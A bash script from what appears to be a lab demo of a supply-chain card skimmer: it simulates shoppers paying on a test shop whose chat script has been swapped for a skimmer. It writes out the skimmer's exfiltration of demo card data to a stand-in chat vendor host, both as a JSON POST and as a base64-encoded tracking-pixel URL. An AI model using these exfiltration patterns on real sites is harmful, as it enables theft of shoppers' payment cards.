# shellcheck shell=bash
# Shoppers, and what their browsers send.
#
# With Node.js, deploy/demo/scripts/browser.mjs loads the page from the shop and runs its scripts, the
# chat's among them. Without, curl sends what these scripts would.

node_program=
[[ $use_node == no ]] || node_program=$(command -v node || true)

# The fields of the payment form, as a browser has them, for a card.
form_of() { printf '{"cardHolder":"Demo Shopper","cardNumber":"%s","cardExpiry":"11/29"}' "$1"; }

# curl_to HOST PORT PATH [OPTION...]: a request with what is on standard input as its body.
curl_to() {
  local host=$1 port=$2 path=$3
  shift 3
  curl_as_page -H "Host: $host" -H 'Expect:' "$@" "http://127.0.0.1:$port$path"
}
curl_as_page() {
  curl -sf -o /dev/null --max-time 10 -H 'Origin: http://shop.example' \
    -H 'Referer: http://shop.example/' "$@"
}

# A shopper opens a page, fills in the payment form and pays. The page's fragment is `#quiet` for those
# that the altered script treats with its second method.
shopper_pays() {
  local card=$1 fragment=${2:-}
  if [[ -n $node_program ]]; then
    form_of "$card" | "$node_program" "$demo_dir/scripts/browser.mjs" "$shop_port" "$chat_port" \
      "/checkout.html$fragment"
    return
  fi
  curl_to shop.example "$shop_port" /checkout.html
  curl_to shop.example "$shop_port" /vendor/chat.js
  printf '{"page":"/checkout.html"}' | curl_to chat.vendor.example "$chat_port" /session \
    -X POST --data-binary @-
  if cmp -s "$run/shop/html/vendor/chat.js" "$demo_dir/scripts/chat-skimmer.js"; then
    if [[ $fragment == '#quiet' ]]; then
      pixel_url "$card" | curl_as_page -H 'Host: chat.vendor.example' -K -
    else
      printf '{"page":"/checkout.html","form":%s}' "$(form_of "$card")" |
        curl_to chat.vendor.example "$chat_port" /transcript -X POST \
          -H 'Content-Type: application/json' --data-binary @-
    fi
  fi
  form_of "$card" | curl_to shop.example "$shop_port" /api/checkout -X POST \
    -H 'Content-Type: application/json' --data-binary @-
}

# The address of the image that carries a card, as curl's configuration.
pixel_url() {
  local data
  data=$(form_of "$1" | base64 -w 0)
  data=${data//+/%2B}
  data=${data//\//%2F}
  printf 'url = "http://127.0.0.1:%s/pixel.gif?s=%s"\n' "$chat_port" "${data//=/%3D}"
}

# A form that is sent the wrong way: the number is in the address, so it is in the shop's log.
shopper_asks_with_number_in_address() {
  printf 'url = "http://127.0.0.1:%s/order/status?card=%s"\n' "$shop_port" "$1" |
    curl -sf -o /dev/null --max-time 10 -H 'Host: shop.example' -K -
}

# put_script FILE: replaces the chat script as a deployment does, whole and at once.
put_script() {
  cp "$demo_dir/scripts/$1" "$run/shop/html/vendor/.chat.js.new"
  mv "$run/shop/html/vendor/.chat.js.new" "$run/shop/html/vendor/chat.js"
}
